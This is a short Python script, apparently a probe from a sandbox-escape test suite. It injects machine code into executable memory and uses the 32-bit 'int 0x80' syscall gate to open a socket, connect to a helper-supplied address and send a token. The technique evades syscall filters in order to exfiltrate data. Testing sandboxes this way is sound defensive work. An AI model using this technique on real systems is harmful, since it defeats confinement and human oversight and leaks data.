"""Call the kernel through the gate of 32-bit programs, with machine code in own memory."""

import ctypes
import mmap
import os

from _calls import MACHINE
from _calls import address
from _calls import checked
from _way import TOKEN
from _way import attempt

#: push rbx; mov r8, rdi; mov eax/ebx/ecx/edx, [r8 + 0/4/8/12]; int 0x80; pop rbx; ret
GATE = bytes.fromhex('53 4989f8 418b00 418b5804 418b4808 418b500c cd80 5b c3')

MAP_32BIT, WHOLE = 0x40, 7

SOCKET, CONNECT = 359, 362


def go():
    """Connect and send; what the kernel reads has to lie where 32 bits reach."""
    assert MACHINE == 'x86_64', 'this machine has no such gate'
    memory = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT, WHOLE)
    start = ctypes.addressof(ctypes.c_char.from_buffer(memory))
    memory[:len(GATE)] = GATE
    memory[256:256 + 16] = address()
    enter = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(start)
    descriptor = enter(ctypes.byref((ctypes.c_uint32 * 4)(SOCKET, 2, 1, 0)))
    if descriptor < 0:
        raise OSError(-descriptor, os.strerror(-descriptor))
    checked(enter(ctypes.byref((ctypes.c_uint32 * 4)(CONNECT, descriptor, start + 256, 16))))
    os.write(descriptor, TOKEN)


attempt(go)
